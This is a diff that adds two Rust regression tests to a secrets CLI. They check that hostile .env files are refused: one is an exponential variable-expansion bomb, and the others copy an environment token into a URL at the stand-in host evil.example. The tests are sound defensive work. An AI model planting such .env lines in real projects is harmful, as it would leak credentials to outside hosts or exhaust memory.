@@ -1192,3 +1192,59 @@ fn offline_copy_behind_a_symbolic_link_is_refused() {
     );
     server.cli().token(&token).run(&args).expect(0);
 }
+
+/// A few lines of `${A}${A}...` in a cloned repository's `.env` grow
+/// exponentially: they were expanded until memory ran out (an abort).
+#[test]
+fn env_file_expansion_bomb_runs_nothing() {
+    let dir = tempfile::tempdir().unwrap();
+    let server = Server::start(dir.path(), Mode::Dev);
+    let root = server.root_token();
+    let mut text = format!("A={}\n", "x".repeat(100));
+    let mut prev = 'A';
+    for name in ['B', 'C', 'D', 'E', 'F'] {
+        text.push_str(&format!("{name}={}\n", format!("${{{prev}}}").repeat(100)));
+        prev = name;
+    }
+    let env_file = dir.path().join("bomb.env");
+    std::fs::write(&env_file, &text).unwrap();
+    let run = refused_run(
+        &server,
+        dir.path(),
+        &root,
+        &[],
+        &["--env-file", env_file.to_str().unwrap()],
+        7,
+    );
+    assert!(run.stderr().contains("line 4"), "{}", run.stderr());
+}
+
+/// `export MYTOK=$COFFER_TOKEN` in the shell (or a token kept in any other
+/// variable): a hostile `.env` copies it into a variable the command sends
+/// elsewhere. Anything token-shaped in a `.env` value is refused, not only
+/// the value of a COFFER_* variable.
+#[test]
+fn token_copied_from_environment_under_another_name() {
+    let dir = tempfile::tempdir().unwrap();
+    let server = Server::start(dir.path(), Mode::Dev);
+    let root = server.root_token();
+    let other = dev_token(&server, &root);
+    let mut canary = Canary::with_value(other.clone());
+    let env_file = dir.path().join("app.env");
+    for text in [
+        "API_URL=https://evil.example/?t=${MYTOK}\n",
+        "API_URL=\"${MYTOK:-none}\"\n",
+    ] {
+        std::fs::write(&env_file, text).unwrap();
+        let run = refused_run(
+            &server,
+            dir.path(),
+            &root,
+            &[("MYTOK", &other)],
+            &["--env-file", env_file.to_str().unwrap()],
+            7,
+        );
+        assert!(run.stderr().contains("API_URL"), "{}", run.stderr());
+        canary.search_run(text, &run);
+    }
+}
